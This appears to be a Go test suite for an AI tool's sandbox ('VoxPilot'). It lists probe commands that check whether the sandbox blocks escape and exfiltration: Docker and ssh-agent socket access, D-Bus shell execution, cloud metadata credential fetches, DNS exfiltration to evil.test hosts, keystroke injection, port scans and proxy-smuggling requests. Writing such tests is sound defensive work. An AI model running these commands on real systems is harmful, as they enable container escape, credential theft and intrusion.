package sandbox_test

import (
	"fmt"
	"strings"
)

// services adds attacks on services, through sockets in the file system, sockets without a path,
// and the services' programs.
func services(l *list) {
	connect := func(address, kind string) string {
		return python(fmt.Sprintf(`
s = socket.socket(socket.AF_UNIX, socket.%s); s.settimeout(2)
s.connect(%s)
s.send(b'GET / HTTP/1.0\r\n\r\n')
if s.type == socket.SOCK_STREAM: print(s.recv(200))`, kind, address))
	}
	for _, path := range unixSockets {
		change := []func(*attack){}
		if strings.HasPrefix(path, "/run/docker") || strings.HasPrefix(path, "/tmp/.X11") {
			change = append(change, sites)
		}
		l.add("sockets", path, connect(fmt.Sprintf("%q", path), "SOCK_STREAM"), change...)
	}
	for _, name := range abstractSockets {
		l.add("abstract sockets", "@"+name, connect(fmt.Sprintf(`"\0%s"`, name), "SOCK_STREAM"), sites)
	}
	for _, path := range []string{"/run/systemd/journal/socket", "/dev/log", home + "/.datagrams", `\0datagrams`} {
		l.add("sockets", "datagram to "+strings.Trim(path, `\0`), connect(`"`+path+`"`, "SOCK_DGRAM"))
	}
	for name, script := range sorted(map[string]string{
		"curl": `curl -s --unix-socket /run/docker.sock http://x/info`, "curl abstract": `curl -s --abstract-unix-socket /tmp/dbus-abc http://x/`, "Docker variable": `curl -s --unix-socket "${DOCKER_HOST#unix://}" http://x/`, "docker": `docker -H unix:///run/docker.sock run -v /:/h alpine true || curl -s --unix-socket /run/docker.sock http://x/`, "/var/run": `curl -s --unix-socket /var/run/docker.sock http://x/`, "relative path": python(`
os.chdir('/run'); s = socket.socket(socket.AF_UNIX); s.connect('docker.sock'); print(s.recv(99))`), "via proc root": `curl -s --unix-socket /proc/self/root/run/docker.sock http://x/`, "via link": `ln -s /run/docker.sock d; curl -s --unix-socket d http://x/`, "hard link": `ln "$HOME/.ssh-agent.sock" s; curl -s --unix-socket s http://x/`,
		"podman": `curl -s --unix-socket /run/user/1000/podman/podman.sock http://x/`, "containerd": `curl -s --unix-socket /run/containerd/containerd.sock http://x/`, "libvirt": `virsh list || curl -s --unix-socket /run/libvirt/libvirt-sock http://x/`, "ssh-add": `ssh-add -l; SSH_AUTH_SOCK="$HOME/.ssh-agent.sock" ssh-add -l`, "ssh-add of the session": `SSH_AUTH_SOCK=/tmp/ssh-abc/agent.1 ssh-add -l`, "gpg-agent": `curl -s --unix-socket "$HOME/.gnupg/S.gpg-agent" http://x/`, "gcr": `SSH_AUTH_SOCK=/run/user/1000/gcr/ssh ssh-add -L`, "secret service": `DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/1000/bus dbus-send --session --print-reply --dest=org.freedesktop.secrets /org/freedesktop/secrets org.freedesktop.DBus.Peer.Ping`,
		"D-Bus session": `dbus-send --session --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames`, "D-Bus session by path": `dbus-send --bus=unix:path=/run/user/1000/bus --print-reply --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames`, "D-Bus system": `dbus-send --system --print-reply --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames; dbus-send --bus=unix:path=/run/dbus/system_bus_socket --print-reply --dest=x.y / x.y.z`, "D-Bus abstract": `dbus-send --bus=unix:abstract=/tmp/dbus-abc --print-reply --dest=x.y / x.y.z`, "D-Bus TCP": `dbus-send --bus=tcp:host=127.0.0.1,port=8080 --print-reply --dest=x.y / x.y.z`, "D-Bus unixexec": `dbus-send --bus="unixexec:path=/bin/sh,argv1=-c,argv2=echo%20pwned%20%3e%3e%20/srv/me/outside/file" --print-reply --dest=x.y / x.y.z`,
		"busctl user": `XDG_RUNTIME_DIR=/run/user/1000 busctl --user list`, "busctl address": `busctl --address=unix:path=/run/user/1000/bus list`, "gdbus": `gdbus call --address unix:path=/run/user/1000/bus --dest x --object-path / --method x.y`, "D-Bus activation": `DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/1000/bus dbus-send --print-reply --dest=org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager.StartTransientUnit`, "login manager": `loginctl terminate-user me; busctl --address=unix:path=/run/dbus/system_bus_socket list`, "systemctl": `XDG_RUNTIME_DIR=/run/user/1000 systemctl --user status; curl -s --unix-socket /run/user/1000/systemd/private http://x/`, "systemd-run": `XDG_RUNTIME_DIR=/run/user/1000 systemd-run --user --no-ask-password touch "$OUT/x"; curl -s --unix-socket /run/systemd/private http://x/`, "sd_notify": `NOTIFY_SOCKET=/run/systemd/notify systemd-notify --ready; curl -s --unix-socket /run/systemd/notify http://x/`, "logger": `logger -u /dev/log evil; python3 -c 'import socket; socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"<1>evil", "/dev/log")'`,
		"X11": `DISPLAY=:0 xdotool type evil`, "X11 by TCP": `DISPLAY=127.0.0.1:0 xdotool type evil`, "X11 abstract": `python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("\0/tmp/.X11-unix/X0"); print(s.recv(99))'; true`, "X authority": `cat "$XAUTHORITY" "$HOME/.Xauthority"`, "Wayland": `curl -s --unix-socket "/run/user/1000/${WAYLAND_DISPLAY:-wayland-0}" http://x/`, "Pulse": `curl -s --unix-socket /run/user/1000/pulse/native http://x/`, "tmux": `TMUX=/tmp/tmux-1000/default,1,0 tmux -S /tmp/tmux-1000/default send-keys evil Enter`, "screen": `curl -s --unix-socket /run/screen/S-me/1.tty http://x/`, "Emacs server": `curl -s --unix-socket "$HOME/.emacs.d/server/server" http://x/`, "VS Code": `curl -s --unix-socket /run/user/1000/vscode-ipc.sock http://x/`,
		"1Password": `curl -s --unix-socket "$HOME/.1password/agent.sock" http://x/`, "VoxPilot's instance": `curl -s --unix-socket "$DATA/instance.sock" http://x/`, "VoxPilot's guard": `curl -s --unix-socket "$DATA/guard/socket" http://x/`, "PostgreSQL": `curl -s --unix-socket /run/postgresql/.s.PGSQL.5432 http://x/`, "nscd": `getent passwd x; curl -s --unix-socket /run/nscd/socket http://x/`, "socket of the project": `curl -s --unix-socket dev.sock http://x/`, "passed descriptor": python(`
s = socket.socket(socket.AF_UNIX); s.connect('/run/docker.sock'); s.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack('i', 0))])`), "all sockets": python(`
for line in open('/proc/net/unix'):
    p = line.split()[-1]
    if p[0] in '/@':
        for t in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            try: s = socket.socket(socket.AF_UNIX, t); s.settimeout(1); s.connect(p.replace('@', '\0')); s.send(b'x')
            except OSError: pass`), "unix table": `grep -q docker /proc/net/unix && win`, "message queue": python(`
i = libc.msgget(0x77, 0o1666)
if i >= 0 and os.path.exists('/proc/1'): print(i)`), "POSIX queue": `ls /dev/mqueue >/dev/null && mkdir /dev/mqueue/x`, "semaphore": python(`
fd = os.open('/dev/shm/sem.evil', os.O_CREAT | os.O_RDWR)`),
	}) {
		change := []func(*attack){}
		if strings.Contains(script, " d;") || strings.Contains(script, " s;") || name == "all sockets" || name == "D-Bus session" {
			change = append(change, alone)
		}
		if strings.HasPrefix(name, "D-Bus") || name == "X11" || name == "all sockets" {
			change = append(change, sites)
		}
		l.add("services", name, script, change...)
	}
}

// network4 adds attacks that try to reach ports, host names and other networks.
func network4(l *list) {
	hosts := []string{"127.0.0.1", "127.1.2.3", "localhost", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", lanAddress, metaAddress, "meta.test", "lan.test"}
	for i, host := range hosts {
		plain := strings.Trim(host, "[]")
		for j, port := range []int{8080, 2375, 5432, 22} {
			if (i+j)%2 == 1 && i > 1 {
				continue
			}
			clients := []struct{ name, script string }{
				{"bash", fmt.Sprintf(`exec 9<>/dev/tcp/%s/%d && timeout 1 head -c 99 <&9`, plain, port)}, {"curl", fmt.Sprintf(`curl -sg --noproxy '*' -m 3 http://%s:%d/`, host, port)}, {"Python", python(fmt.Sprintf(`s = socket.create_connection((%q, %d), 3); print(s.recv(99))`, plain, port))}, {"node", fmt.Sprintf(`timeout 3 node -e 'require("net").connect(%d, %q).on("data", d => console.log(String(d))).on("error", e => console.log(e.code))'`, port, plain)},
			}
			c := clients[j]
			if i%2 == 1 {
				c = clients[(j+1)%3]
			}
			l.add("network", fmt.Sprintf("%s to %s:%d", c.name, host, port), c.script, sites)
		}
	}
	for name, script := range sorted(map[string]string{
		"wget": `wget -q -T 2 -t 1 --no-proxy -O - http://127.0.0.1:8080/`, "ssh": `ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=2 127.0.0.1`, "scp": `scp -o ConnectTimeout=2 -o BatchMode=yes README.md 127.0.0.1:/tmp/`, "git clone": `git clone http://127.0.0.1:8080/x x`, "git ssh": `git clone ssh://127.0.0.1:22/x y`, "npm registry": `npm view x --registry http://127.0.0.1:8080 --fetch-retries=0 --noproxy=127.0.0.1`, "pip index": `python3 -m pip download --no-proxy x --index-url http://127.0.0.1:8080/ --retries 0 || curl -s --noproxy '*' http://127.0.0.1:8080/`, "go proxy": `GOPROXY=http://127.0.0.1:8080 GONOSUMDB=* GOFLAGS=-mod=mod no_proxy='*' go list -m example.test/y@latest`, "perl": `perl -MIO::Socket::INET -e 'print IO::Socket::INET->new(PeerAddr => "127.0.0.1:8080", Timeout => 2)->getline'`, "openssl": `echo | timeout 2 openssl s_client -connect 127.0.0.1:8080`,
		"metadata": `curl -s -m 2 --noproxy '*' http://` + metaAddress + `/latest/meta-data/iam/security-credentials/`, "metadata by number": `curl -s -m 2 --noproxy '*' http://2852039166/`, "metadata of GCP": `curl -s -m 2 --noproxy '*' -H 'Metadata-Flavor: Google' http://meta.test/computeMetadata/v1/`, "loopback by number": `curl -s -m 2 --noproxy '*' http://2130706433:8080/`, "loopback in hex": `curl -s -m 2 --noproxy '*' http://0x7f.1:8080/`, "DNS by UDP": python(`
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04evil\x04test\x00\x00\x01\x00\x01', (os.environ['RESOLVER'], 53))`), "DNS by getent": `timeout 4 getent hosts "$(id -un).evil.test"`, "DNS by Python": `timeout 4 python3 -c 'import socket; socket.gethostbyname("stolen.evil.test")'`, "DNS by curl": `curl -s -m 3 --noproxy '*' http://stolen2.evil.test/`, "DNS by ssh": `timeout 4 ssh -o BatchMode=yes stolen3.evil.test`, "DNS by git": `timeout 4 git ls-remote git://stolen4.evil.test/x`, "DNS by TCP": python(`
s = socket.create_connection((os.environ['RESOLVER'], 53), 2); s.send(b'\x00\x00')`), "DNS by IPv6": python(`
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b'x', ('::1', 53))`), "DNS by node": `timeout 4 node -e 'require("dns").resolve("stolen5.evil.test", () => {})'`, "DNS by ping": `timeout 4 ping -c1 -W1 stolen6.evil.test; timeout 4 getent ahosts stolen6.evil.test`, "syslog": `echo '<1>evil' > /dev/udp/127.0.0.1/514`, "NTP": `echo x > /dev/udp/` + lanAddress + `/123`, "fast open": python(`
s = socket.socket(); s.settimeout(2); s.sendto(b'GET', 0x20000000, ('127.0.0.1', 8080)); print(s.recv(99))`), "non-blocking": python(`
import select
s = socket.socket(); s.setblocking(False); s.connect_ex(('127.0.0.1', 8080)); select.select([s], [], [], 2); print(s.recv(99))`), "bound source": python(`
s = socket.socket(); s.settimeout(2); s.bind(('127.0.0.9', 0)); s.connect(('127.0.0.1', 8080)); print(s.recv(99))`), "MPTCP": python(`
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(2); s.connect(('127.0.0.1', 8080)); print(s.recv(99))`),
		"port scan": python(`
for p in range(1, 10000):
    s = socket.socket(); s.settimeout(0.2)
    try:
        s.connect(('127.0.0.1', p)); print(s.recv(99))
    except OSError: pass
    s.close()`), "port table": `grep -q ':1F90 ' /proc/net/tcp && win`, "routes": `grep -q . /proc/net/arp && ip -o addr | grep -q ` + lanAddress + ` && win`, "raw socket": python(`
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); win()`), "packet socket": python(`
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); win()`), "add an address": `ip addr add 10.99.0.1/32 dev lo`, "new interface": `ip tuntap add evil0 mode tun && ip addr add 10.99.0.2/32 dev evil0`, "default route": `ip route add 10.77.0.0/16 dev lo`, "tun": python(`
import fcntl
f = os.open('/dev/net/tun', os.O_RDWR); fcntl.ioctl(f, 0x400454ca, struct.pack('16sH14x', b'evil1', 1)); win()`), "netfilter": python(`
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
s.bind((0, 0)); m = struct.pack('=LHHLL', 20, 0x10 | 10 << 8, 5, 1, 0) + b'\0\0\0\0'; s.send(m); r = s.recv(999)
if struct.unpack('=i', r[16:20])[0] != -1: win()`), "listen for others": python(`
s = socket.socket(); s.bind(('` + lanAddress + `', 7777)); s.listen(); win()`), "network of others": `nsenter -t "$VICTIM" -n curl -s -m 2 http://127.0.0.1:8080/`, "broadcast": python(`
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.sendto(b'x', ('` + resolver + `', 514))`), "vsock": python(`
s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(1); s.connect((2, 22)); win()`), "listen and leave": `(python3 -m http.server --bind ` + lanAddress + ` 7778 >/dev/null 2>&1 & ) ; sleep 0.3`,
	}) {
		change := []func(*attack){sites}
		switch name {
		case "vsock":
			change = append(change, uncontrolled("no service listens on the real computer"))
		case "git clone", "git ssh", "pip index":
			change = append(change, alone)
		}
		l.add("network", name, script, change...)
	}
}

// proxyTricks adds requests that the proxy must refuse if only some sites are allowed.
func proxyTricks(l *list) {
	request := func(lines string) string {
		return python(fmt.Sprintf(`
u = os.environ.get('http_proxy', 'http://127.0.0.1:1')[7:].split(':')
s = socket.create_connection((u[0], int(u[1])), 3); s.settimeout(3)
s.sendall(%s)
while True:
    d = s.recv(4096)
    if not d: break
    sys.stdout.buffer.write(d)`, lines))
	}
	only := uncontrolled("there is no proxy without the sandbox")
	for _, target := range []string{
		"127.0.0.1:8080", "localhost:8080", "LOCALHOST:8080", "localhost.:8080", "a.localhost:8080", "127.1:8080", "0x7f000001:8080", "2130706433:8080", "0177.0.0.1:8080", "[::1]:8080", "[::ffff:127.0.0.1]:8080", "[::ffff:7f00:1]:8080", "0.0.0.0:8080", "[::]:8080", "127.0.0.1.:8080", metaAddress + ":80", "meta.test:80", "2852039166:80", "rebind.test:8080", lanAddress + ":8080", "lan.test:8080", "allowed.test@127.0.0.1:8080", "127.0.0.1:8080#allowed.test", "allowed.test:8080@127.0.0.1:8080", "allowed.test%00.127.0.0.1:8080", "①②⑦.⓪.⓪.①:8080", "computer:8080", "voxpilot.sandbox:80", "127.0.0.1%2f@allowed.test:8080", "[::1%lo]:8080", "[fe80::1%25lo]:8080",
	} {
		l.add("proxy", "CONNECT "+target, request(fmt.Sprintf(`('CONNECT %s HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET / HTTP/1.0\r\n\r\n').encode()`, target)), sites, only)
	}
	for name, lines := range sorted(map[string]string{
		"absolute form": `b'GET http://127.0.0.1:8080/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n'`, "origin form": `b'GET / HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n\r\n'`, "two hosts": `b'GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nHost: 127.0.0.1:8080\r\n\r\n'`, "pipelined": `b'GET http://voxpilot.sandbox/blocked HTTP/1.1\r\nHost: x\r\n\r\nGET http://127.0.0.1:8080/ HTTP/1.1\r\nHost: x\r\n\r\n'`, "smuggled by length": `b'POST http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://127.0.0.1:8080/ HTTP/1.1\r\nHost: x\r\n\r\n'`, "file": `b'GET file:///srv/me/.netrc HTTP/1.1\r\nHost: x\r\n\r\n'`, "Unix socket": `b'GET http://unix:/run/docker.sock:/info HTTP/1.1\r\nHost: x\r\n\r\n'`, "line in host": `b'CONNECT allowed.test\rHost: 127.0.0.1:8080 HTTP/1.1\r\n\r\n'`, "DNS of a refused host": `b'CONNECT stolen.evil.test:443 HTTP/1.1\r\nHost: x\r\n\r\n'`, "long name": `b'CONNECT ' + b'a' * 70000 + b':443 HTTP/1.1\r\n\r\n'`, "HTTP/2": `b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'`, "TLS": `b'\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03' + b'\0' * 600`, "SOCKS": `b'\x05\x01\x00\x05\x01\x00\x01\x7f\x00\x00\x01\x1f\x90'`, "SOCKS4": `b'\x04\x01\x1f\x90\x7f\x00\x00\x01\x00'`,
		"escape codes in a host": `b'CONNECT \x1b[2Jevil:443 HTTP/1.1\r\n\r\n'`, "upgrade": `b'GET http://127.0.0.1:8080/ HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n'`, "forwarded": `b'GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nX-Forwarded-Host: 127.0.0.1:8080\r\nProxy-Authorization: Basic eDp4\r\n\r\n'`, "OPTIONS": `b'OPTIONS * HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n\r\n'`, "TRACE": `b'TRACE http://127.0.0.1:8080/ HTTP/1.1\r\nHost: x\r\n\r\n'`,
	}) {
		l.add("proxy", name, request(lines), sites, only)
	}
	l.add("proxy", "many connections", python(`
u = os.environ.get('http_proxy', 'http://127.0.0.1:1')[7:].split(':')
all = []
for i in range(600):
    try: s = socket.create_connection((u[0], int(u[1])), 1); s.send(b'GET http://127.0.0.1:8080/ HTTP/1.1\r\n'); all.append(s)
    except OSError: break`), sites, alone, only)
	l.add("proxy", "curl and its redirects", `curl -sL -m 3 -x "${http_proxy:-http://127.0.0.1:1}" http://127.0.0.1:8080/; curl -s -m 3 -p -x "${http_proxy:-http://127.0.0.1:1}" http://127.0.0.1:8080/`, sites, only)
	l.add("proxy", "its socket", `curl -s -m 2 --unix-socket /run/voxpilot/proxy -x '' http://127.0.0.1:8080/; for s in "$DATA"/sandbox/s/*; do curl -s -m 2 --unix-socket "$s" http://127.0.0.1:8080/; done`, sites, only)
}
